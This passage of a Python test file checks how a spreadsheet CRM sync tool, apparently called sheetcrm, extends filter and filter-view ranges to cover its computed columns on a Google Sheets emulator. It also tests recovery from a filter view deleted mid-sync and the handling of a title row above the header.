    assert headers[6:8] == ["Probability %", "Weighted Amount"] and len(headers) == 13
    assert _filter_of(emu, k, "Opportunities") == {
        "range": {"startRowIndex": 0, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 13},  # sheetId 0
        "sortSpecs": [{"dimensionIndex": 4, "sortOrder": "DESCENDING"}],
        "filterSpecs": [{"columnIndex": 3, "filterCriteria": {"hiddenValues": ["Lost"]}}]}
    assert not sync(key.book, Config(), as_of=AS_OF).plan

    # A filter set once the computed columns are there grows over them at the next write.
    _set_filter(emu, k, "Opportunities", 3, 6)
    emu.set_cell(k, "Opportunities", "D2", "Negotiation")
    sync(key.book, Config(), as_of=AS_OF)
    assert _filter_of(emu, k, "Opportunities")["range"]["endColumnIndex"] == 13

    # A lead converts: its deal goes just below the filter, which takes it in; the team's Notes
    # column just right of the filter stays out, and so do sheetcrm's columns past it.
    key = emu.create_spreadsheet("CRM", {
        "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]],
        "Contacts": [["ID", "Account", "First Name", "Last Name", "Email"],
                     ["CON-0001", "ACC-0001", "Ana", "Pérez", "ana@acme.com"]],
        "Opportunities": [["ID", "Name", "Account", "Stage", "Amount", "Close Date", "Notes"],
                          ["OPP-0001", "D1", "ACC-0001", "Proposal", 100, "2027-01-01", "call"]],
        "Leads": [["ID", "First Name", "Last Name", "Company", "Email", "Status", "Amount", "Convert"],
                  ["LEAD-0001", "Bo", "Q", "Globex", "bo@globex.com", "Qualified", 500, "yes"]]})
    _set_filter(emu, key, "Opportunities", 2, 6)
    sync(Traced(key).book, Config(), as_of=AS_OF)
    after = emu.values(key, "Opportunities")
    assert after[2][1] == "Globex – Bo Q" and after[0][7] == "Probability %"
    rng = _filter_of(emu, key, "Opportunities")["range"]
    assert (rng["endRowIndex"], rng["endColumnIndex"]) == (3, 6)


def test_computed_columns_beside_a_filter_view_join_the_view(emu):
    """The same fault in a filter view (Data > Filter views: each salesperson's "My deals"):
    its range stayed A1:F3 after the sync wrote the computed columns to M, so sorting in the view
    sorted the team's columns alone under rows of other deals' Probability % and Weighted Amount.
    Each view grows in the sync's own batch (updateFilterView, its range alone: title, sort and
    criteria kept; no request more), never over a team's column."""
    def crm(views: bool) -> str:
        key = emu.create_spreadsheet("CRM", {
            "Opportunities": [["ID", "Name", "Account", "Stage", "Amount", "Close Date"],
                              ["OPP-0001", "D1", "ACC-0001", "Proposal", 100, "2027-01-01"],
                              ["OPP-0002", "D2", "ACC-0001", "Prospecting", 900, "2027-01-01"]],
            "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]]})
        if views:
            emu.apply(key, [{"addFilterView": {"filter": {
                "filterViewId": 11, "title": "My deals",
                "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 3, "startColumnIndex": 0,
                          "endColumnIndex": 6},
                "sortSpecs": [{"dimensionIndex": 4, "sortOrder": "DESCENDING"}]}}},
                {"addFilterView": {"filter": {"filterViewId": 12, "title": "Accounts",
                                              "range": {"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3}}}},
                {"addFilterView": {"filter": {"filterViewId": 13, "title": "Columns A:F",
                                              "range": {"sheetId": 0, "endColumnIndex": 6}}}}])
        return key

    plain, viewed = Traced(crm(False)), Traced(crm(True))
    sync(plain.book, Config(), as_of=AS_OF)
    sync(viewed.book, Config(), as_of=AS_OF)
    assert viewed.counts() == plain.counts()
    import requests

    k = viewed.book.key
    views = requests.get(f"{emu.url}/v4/spreadsheets/{k}", params={"fields": "sheets.filterViews"},
                         timeout=10).json()["sheets"][0]["filterViews"]
    assert views == [
        {"filterViewId": 11, "title": "My deals",
         "range": {"startRowIndex": 0, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 13},
         "sortSpecs": [{"dimensionIndex": 4, "sortOrder": "DESCENDING"}]},
        # A view over the team's Account column alone has a team's column just right of it.
        {"filterViewId": 12, "title": "Accounts", "range": {"startColumnIndex": 2, "endColumnIndex": 3}},
        # Set on whole columns (A:F): every row already, and the computed columns join it.
        {"filterViewId": 13, "title": "Columns A:F", "range": {"endColumnIndex": 13}}]
    assert not sync(viewed.book, Config(), as_of=AS_OF).plan


def test_a_filter_view_deleted_while_a_sync_runs_leaves_the_write_whole(emu):
    """Found attacking the view fix: a person deleting a filter view between the sync's read and
    its batch made Google refuse the batch whole (updateFilterView of an unknown ID), and the
    sync ended in an error with nothing written. The refusal is read as the tab list changed:
    the tab list is read again and the batch sent again without the view."""
    key = emu.create_spreadsheet("CRM", {
        "Opportunities": [["ID", "Name", "Account", "Stage", "Amount", "Close Date"],
                          ["OPP-0001", "D1", "ACC-0001", "Proposal", 100, "2027-01-01"]],
        "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]]})
    emu.apply(key, [{"addFilterView": {"filter": {"filterViewId": 11, "title": "Mine", "range": {
        "sheetId": 0, "endRowIndex": 2, "endColumnIndex": 6}}}}])
    emu.before_next(":batchUpdate", lambda e: e.apply(key, [{"deleteFilterView": {"filterId": 11}}]))
    done = sync(Traced(key).book, Config(), as_of=AS_OF)
    assert emu.values(key, "Opportunities")[0][6:8] == ["Probability %", "Weighted Amount"]
    assert done.result.written["Opportunities"] == sum(1 for w in done.plan.writes if w.tab == "Opportunities")


def test_a_title_row_above_the_header_keeps_sheetcrms_new_headers_on_google(emu):
    # The read-back after the write took the header row (row 2 here) for a record's row whose
    # computed cells held nothing at the read, and "repaired" the new headers to empty: the
    # computed columns had no name, with nothing said (.xlsx was right).
    rows = [["Deals 2026"], ["ID", "Name", "Account", "Stage", "Amount", "Close Date"],
            ["OPP-0001", "D1", "ACC-0001", "Proposal", 100, "2027-01-01"],
            ["OPP-0002", "D2", "ACC-0001", "Prospecting", 900, "2027-01-01"]]
    tabs = {"Opportunities": rows, "Accounts": [["ID", "Name"], ["ACC-0001", "Acme"]]}
    key = emu.create_spreadsheet("CRM", tabs)
    traced = Traced(key)
    sync(traced.book, Config(), as_of=AS_OF)
    on_google = emu.values(key, "Opportunities")
    assert on_google[0] == ["Deals 2026"]
    assert "Probability %" in on_google[1] and "Weighted Amount" in on_google[1]
    assert all(on_google[1]), on_google[1]  # no header left empty between sheetcrm's columns
    width = len(on_google[1])
    traced.reset()
    again = sync(traced.book, Config(), as_of=AS_OF)
    assert not again.plan.writes
    assert len(emu.values(key, "Opportunities")[1]) == width
